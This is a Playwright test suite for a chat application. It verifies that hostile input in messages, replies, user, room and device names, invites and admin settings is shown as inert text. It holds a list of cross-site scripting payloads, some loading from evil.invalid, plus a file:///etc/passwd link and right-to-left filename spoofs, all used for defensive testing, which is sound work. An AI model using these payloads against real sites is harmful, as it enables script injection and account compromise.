"""Text that would like to be a program, in every place that shows text: it is shown, and does nothing."""

import re

import pytest
from playwright.sync_api import Error, expect

from administration import part, to
from parts import called
from support.addresses import new_address
from support.deadline import eventually

HOSTILE = [
    # Elements that run something.
    "<script>window.fired=1</script>",
    "</script><script>window.fired=2</script>",
    "<ScRiPt src=//evil.invalid/x.js></sCrIpT>",
    "<img src=x onerror=window.fired=3>",
    "<img src=`x` onerror=window.fired=4//",
    "<svg onload=window.fired=5>",
    "<svg><script>window.fired=6</script></svg>",
    "<svg><animate onbegin=window.fired=7 attributeName=x dur=1s>",
    "<iframe src=javascript:parent.fired=8></iframe>",
    "<iframe srcdoc='<script>parent.fired=9</script>'>",
    "<body onload=window.fired=10>",
    "<details open ontoggle=window.fired=11>",
    "<video><source onerror=window.fired=12></video>",
    "<input autofocus onfocus=window.fired=13>",
    "<object data=javascript:window.fired=14>",
    "<embed src=javascript:window.fired=15>",
    "<math href=javascript:window.fired=16>CLICK</math>",
    "<noscript><p title='</noscript><img src=x onerror=fired=17>'>",
    "<style>@import'//evil.invalid/x.css';</style>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid><button>Sign in</button></form>",
    # Out of an attribute, an element, a string, a template, a comment.
    '" onmouseover="window.fired=18" x="',
    "' autofocus onfocus='window.fired=19' x='",
    '"><img src=x onerror=window.fired=20>',
    "--><img src=x onerror=window.fired=21>",
    "</textarea><img src=x onerror=window.fired=22>",
    "</title><script>window.fired=23</script>",
    "');window.fired=24;//",
    "${window.fired=25}{{window.fired=26}}<%=1%>#{1}",
    "&lt;img src=x onerror=window.fired=27&gt;",
    "&#60;script&#62;window.fired=28&#60;/script&#62;",
    "\\u003cimg src=x onerror=window.fired=29\\u003e",
    # Links that lead elsewhere than the web.
    "javascript:window.fired=30",
    "[here](javascript:window.fired=31)",
    "[here](JaVaScRiPt://x.invalid/%0awindow.fired=32)",
    "[here](data:text/html;base64,PHNjcmlwdD4=)",
    "[here](vbscript:x) [x](blob:x) [x](file:///etc/passwd)",
    # Names of what every object has.
    "__proto__ constructor toString",
]
# What a message may have in it, but no name.
UNPRINTABLE = [
    "invoice\u202etxt.exe", "\u2067right to left", "tab\there", "\u0007bell",
    "[here](java\tscript:window.fired=33)", "line\u2028separator",
]

NAME_CHARACTERS_MAX = 80

TRAP = """
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => violations.push(event.blockedURI + " " + event.sample));
"""
# Whatever of it had become an element or an attribute.
TRACES = """() => [...document.querySelectorAll("*")].filter((element) =>
    /^(iframe|object|embed|math|base|video|animate|details|style)$/i.test(element.localName)
    || (element.localName === "img" && !/^(\\/assets\\/|\\/api\\/v1\\/users\\/\\d+\\/picture\\/\\w+$|data:image\\/)/.test(element.getAttribute("src")))
    || (element.localName === "a" && element.hasAttribute("href") && !/^https?:$/.test(element.protocol))
    || [...element.attributes].some(({ name }) => name.startsWith("on"))).map((element) => element.outerHTML)"""


def names():
    """All of them in as few names as they fit into: making an account takes its time."""
    packed = [""]
    for text in HOSTILE:
        if len(packed[-1]) + 1 + len(text) <= NAME_CHARACTERS_MAX:
            packed[-1] = f"{packed[-1]} {text}".strip()
        else:
            packed.append(text)
    return packed


def plain(text):
    """Without the marks of Markdown that are in it."""
    return re.sub("`|__", "", text)


def squeezed(text):
    return re.sub(r"\s+", " ", text).strip()


class Trap:
    """Around a visitor: keeps what ran, asked, opened, was fetched from elsewhere, or had become an element."""

    def __init__(self, visitor):
        self._page, self._sprung = visitor.page, []
        self._known = rf"^({visitor.server.process.origin}/(assets/|api/v1/|sw\.js|#|$)|data:image/|about:blank)"
        self._page.add_init_script(TRAP)
        self._page.on("dialog", self._asked)
        self._page.on("console", lambda said: self._sprung.append(said.text) if said.type == "error" else None)
        self._page.on("download", lambda download: self._sprung.append(download.url))
        self._page.on("request", self._requested)
        visitor.context.on("page", lambda opened: self._sprung.append(opened.url))

    def _asked(self, dialog):
        self._sprung.append(dialog.message)
        dialog.dismiss()

    def _requested(self, request):
        if not re.match(self._known, request.url):
            self._sprung.append(request.url)

    @property
    def catch(self):
        fired = self._page.evaluate("window.fired")
        ran = [] if fired is None else [f"ran: {fired}"]
        return ran + self._page.evaluate("violations") + self._page.evaluate(TRACES) + self._sprung


@pytest.fixture
def trapped(visitor):
    """A visitor with a trap around that nothing may spring."""
    visitor = visitor()
    trap = Trap(visitor)

    def nothing_happened():
        assert trap.catch == []

    visitor.nothing_happened = nothing_happened
    yield visitor
    nothing_happened()


@pytest.fixture(scope="module")
def hostile(server):
    """People who are called so."""
    people = []
    for number, name in enumerate(names()):
        one = server.register(f"Hostile{number}", guest=server.guest.at(new_address()))
        answer = one.patch("/api/v1/me", {"name": name})
        assert answer.status == 200
        one.name = answer.body["name"]
        people.append(one)
    return people


def post(person, room, content, **more):
    answer = person.post(f"/api/v1/rooms/{room}/messages", {"content": content} | more)
    assert answer.status == 201, (content, answer.body)
    return answer.body["seq"]


def names_in(page, selector):
    return {squeezed(text) for text in page.locator(selector).all_text_contents()}


@pytest.mark.parametrize("text", HOSTILE[3:4] + HOSTILE[5:6] + HOSTILE[8:9] + HOSTILE[11:14])
def test_the_trap_springs_where_text_becomes_elements(visitor, person, text):
    """Without the page's policy, which lets no text become any."""
    visitor = visitor(bypass_csp=True)
    trap = Trap(visitor)
    visitor.come_in(person)
    assert trap.catch == []
    visitor.page.evaluate("(text) => document.querySelector('h2').innerHTML = text", text)
    eventually(lambda: trap.catch, "a catch")


def test_what_people_say_and_answer(trapped, server, person):
    room = server.room(server.owner, person)
    texts = HOSTILE + UNPRINTABLE
    for text in texts:
        post(server.owner, room, "re: " + text[:60], reply_to=post(server.owner, room, text))
    trapped.come_in(person, f"/#/room/{room}")
    page = trapped.page
    expect(page.locator(".row").filter(has_text="re:")).not_to_have_count(0)
    trapped.nothing_happened()
    page.keyboard.press("Control+End")
    expect(page.locator(".row")).to_have_count(2 * len(texts))
    said = page.locator(".bubble > .message-body").all_text_contents()
    assert [squeezed(text) for text in said[::2]] == [squeezed(plain(text)) for text in texts]
    quoted = page.locator(".quotation-text").all_text_contents()
    assert [squeezed(text) for text in quoted] == [squeezed(plain(text)) for text in texts]
    page.locator(".row").last.hover()
    page.locator(".row").last.get_by_role("button", name="What to do with this message").click()
    page.get_by_role("dialog").get_by_role("button", name="Reply").click()
    expect(page.locator(".context-title")).to_have_text(f"Reply to {called('Olga')}")


def test_what_comes_while_one_looks_on(trapped, server, person):
    """The room list's preview and the announcement to screen readers too."""
    room = server.room(server.owner, person)
    attic = server.room(server.owner, person, name="Attic")
    trapped.come_in(person, f"/#/room/{room}")
    page = trapped.page
    expect(page.locator(".room-subtitle")).to_contain_text("Olga")
    preview = page.get_by_role("navigation", name="Rooms").get_by_role("link", name="Attic").locator(".room-item-last")
    for text in HOSTILE:
        post(server.owner, room, text)
        post(server.owner, attic, text)
        expect(preview).to_have_text(f"Olga: {plain(text)}")
    expect(page.locator(".row").last).to_contain_text(plain(HOSTILE[-1]))


@pytest.fixture
def masks(trapped, server, person, hostile):
    """The number of a room that the hostile have said something in; the page shows it."""
    room = server.room(person, *hostile, name="Masks")
    first = post(person, room, "Hello, all of you")
    for one in hostile:
        assert one.call("PUT", f"/api/v1/rooms/{room}/messages/{first}/reactions/%F0%9F%91%8D").status == 204
        post(one, room, "Here")
    trapped.come_in(person, f"/#/room/{room}")
    expect(trapped.page.locator(".row")).to_have_count(len(hostile) + 1)
    return room


def test_the_names_of_those_who_spoke_and_reacted(trapped, masks, hostile):
    page = trapped.page
    assert {squeezed(one.name) for one in hostile} <= names_in(page, ".row .author")
    label = page.locator(".reaction").first.get_attribute("aria-label")
    assert all(one.name in label for one in hostile)
    page.locator(".reaction").first.click()
    trapped.nothing_happened()
    page.locator(".reaction").first.hover()
    page.locator(".author").nth(3).click()
    expect(page.locator(".person-name")).to_have_text(hostile[3].name)
    page.keyboard.press("Escape")
    trapped.nothing_happened()


def test_the_names_of_those_who_come_and_go_and_of_rooms_that_are_named(trapped, server, person, masks, hostile):
    page = trapped.page
    expect(page.locator(".room-subtitle")).to_contain_text("more")
    for one in hostile[:4]:
        assert one.call("DELETE", f"/api/v1/rooms/{masks}/members/{one.id}").status == 204
        expect(page.locator(".notice-row").last).to_contain_text(one.name)
    room = server.room(server.owner, person, name=HOSTILE[3])
    said = f"See #{HOSTILE[3]} and {server.process.origin}/#/room/{room}/message/{post(server.owner, room, HOSTILE[5])}"
    post(person, masks, said)
    expect(page.locator(".room-link")).to_have_text(f"#{HOSTILE[3]}")
    expect(page.locator(".reference .quotation-text")).to_have_text(plain(HOSTILE[5]))
    trapped.nothing_happened()


def test_the_names_of_those_who_are_mentioned_and_who_type(trapped, masks, hostile):
    page = trapped.page
    composer = page.get_by_role("textbox", name="Write to Masks")
    for name in ["<svg", "javascript", "<script"]:
        composer.fill("")
        composer.press_sequentially("@" + name)
        expect(page.get_by_role("option").first).to_contain_text(name)
        trapped.nothing_happened()
        page.keyboard.press("Enter")
        mentioned = composer.input_value().strip()
        page.keyboard.press("Enter")
        expect(page.locator(".row").last.locator(".mention")).to_have_text(mentioned)
    for one in hostile[:3]:
        with one.socket() as socket:
            socket.wait_for(type="hello")
            socket.send(type="typing", room_id=masks)
            expect(page.locator(".typing")).to_contain_text(one.name)
    trapped.nothing_happened()


def test_the_names_of_those_who_have_read_and_who_are_searched_for(trapped, masks, hostile):
    page = trapped.page
    page.locator(".row").first.hover()
    page.locator(".row").first.get_by_role("button", name="What to do with this message").click()
    page.get_by_role("button", name="Seen by").click()
    assert {squeezed(one.name) for one in hostile} <= names_in(page, ".menu-readers bdi")
    page.keyboard.press("Escape")
    page.keyboard.press("Control+k")
    page.get_by_role("searchbox").fill("<svg")
    expect(page.get_by_role("dialog").get_by_role("listitem").first).to_contain_text("<svg")
    page.keyboard.press("Escape")
    trapped.nothing_happened()


def test_the_names_of_those_who_are_taken_out_and_of_a_direct_rooms_other(trapped, server, person, masks, hostile):
    page = trapped.page
    trapped.go(f"/#/room/{masks}/about")
    expect(page.get_by_role("button", name="Add people")).to_be_visible()
    for one in [hostile[3], hostile[8]]:
        page.get_by_role("button", name=f"Remove {one.name}", exact=True).click()
        dialog = page.get_by_role("dialog")
        expect(dialog.get_by_role("heading")).to_contain_text(one.name)
        dialog.get_by_role("button", name="Remove", exact=True).click()
        expect(page.locator(".toast")).to_contain_text(one.name)
    # In a direct room the name is the room's.
    direct = server.room(person, hostile[3], kind="direct", name=None)
    trapped.go(f"/#/room/{direct}")
    expect(page.get_by_role("heading", level=1, name=hostile[3].name)).to_be_visible()


def test_the_names_of_rooms(trapped, server, person):
    rooms = [server.room(server.owner, person, name=name) for name in HOSTILE]
    server.room(server.owner, kind="open", name=HOSTILE[3])
    trapped.come_in(person, f"/#/room/{rooms[3]}")
    page = trapped.page
    expect(page).to_have_title(re.compile(re.escape(HOSTILE[3])))
    assert {squeezed(name) for name in HOSTILE} <= names_in(page, ".room-item-name")
    expect(page.get_by_role("textbox", name=f"Write to {HOSTILE[3]}")).to_be_visible()
    page.get_by_role("textbox", name="Write to").press_sequentially("#<img")
    expect(page.get_by_role("option").first).to_contain_text("<img")
    page.keyboard.press("Enter")
    page.keyboard.press("Enter")
    expect(page.locator(".row").last).to_contain_text("#<img")
    page.keyboard.press("Control+k")
    expect(page.get_by_role("dialog").get_by_role("listitem")).not_to_have_count(0)
    assert {squeezed(name) for name in HOSTILE} <= names_in(page, ".picks bdi")
    page.keyboard.press("Escape")
    page.get_by_role("button", name="New conversation").first.click()
    page.get_by_label("Open rooms").check(force=True)
    expect(page.get_by_role("dialog").get_by_role("button", name=f"Join {HOSTILE[3]}")).to_be_visible()
    page.keyboard.press("Escape")
    trapped.go(f"/#/room/{rooms[3]}/about")
    page.get_by_role("button", name="Leave this room").click()
    expect(page.get_by_role("dialog").get_by_role("heading")).to_contain_text(HOSTILE[3])
    page.get_by_role("dialog").get_by_role("button", name="Leave this room").click()
    expect(page.locator(".toast")).to_contain_text(HOSTILE[3])


def test_the_administration(trapped, server, hostile, person):
    for name in HOSTILE:
        server.room(person, name=name)
        assert server.owner.post("/api/v1/invites", {"name": name, "uses": 1}).status == 201
    trapped.come_in(server.owner, "/#/admin/people")
    page, wanted = trapped.page, {squeezed(name) for name in HOSTILE}
    masked = hostile[3].name
    main = part(page)

    def shown():
        text = squeezed(main.text_content())
        return {name for name in wanted if name in text}

    expect(main.get_by_role("listitem").first).to_be_visible()
    assert shown() == wanted
    page.get_by_role("button", name=f"Change the account of {masked}", exact=True).click()
    expect(page.get_by_role("dialog").get_by_role("heading", level=2).first).to_contain_text(masked)
    page.keyboard.press("Escape")
    to(page, "Invites")
    expect(main.get_by_text(HOSTILE[0], exact=True)).to_be_visible()
    assert shown() == wanted
    page.get_by_role("button", name=f"Take back {HOSTILE[3]}", exact=True).click()
    expect(page.get_by_role("dialog").get_by_role("heading")).to_contain_text(HOSTILE[3])
    page.keyboard.press("Escape")
    for each in ("devices", "rooms"):
        trapped.go(f"/#/admin/{each}")
        expect(main.get_by_role("listitem").first).to_be_visible()
        while (more := page.get_by_role("button", name="Show more")).is_visible():
            count = main.get_by_role("listitem").count()
            more.click()
            expect(main.get_by_role("listitem").nth(count)).to_be_visible()
        assert shown() == wanted, each
    page.get_by_role("button", name=f"Delete {HOSTILE[3]}", exact=True).first.click()
    expect(page.get_by_role("dialog").get_by_role("heading")).to_contain_text(HOSTILE[3])
    page.keyboard.press("Escape")
    to(page, "Log")
    expect(main).to_contain_text("made the invite")
    assert shown() == wanted
    for name in HOSTILE:
        assert server.owner.patch("/api/v1/admin/settings", {"site.name": name}).status == 200
        trapped.go("/#/admin/settings")
        expect(main.get_by_text(name, exact=True)).to_be_visible()
    assert server.owner.patch("/api/v1/admin/settings", {"site.name": None}).status == 200


def test_devices_that_call_themselves_so(trapped, server, person):
    for name in ["<img src=x onerror=window.fired=40>", '"><svg onload=window.fired=41>', "<script>window.fired=42</script>/1"]:
        server.sign_in(person, server.guest.at(new_address()).on(name))
    trapped.come_in(person, "/#/settings")
    expect(trapped.section("Devices").get_by_role("listitem")).to_have_count(4)


@pytest.mark.security(24)
@pytest.mark.parametrize("address", ["/#/", "/#/settings"])
def test_the_browser_makes_no_markup_and_no_script_of_text_even_by_mistake(visitor, person, address):
    visitor = visitor()
    visitor.come_in(person, address)
    for mistake in [
        "document.body.innerHTML = '<b>bold</b>'", "document.createElement('script').src = '/x.js'",
        "navigator.serviceWorker.register('/other.js')", "trustedTypes.createPolicy('another', {})",
    ]:
        with pytest.raises(Error, match="TypeError|requires a Trusted|policy"):
            visitor.page.evaluate(f"async () => {{ await ({mistake}); }}")

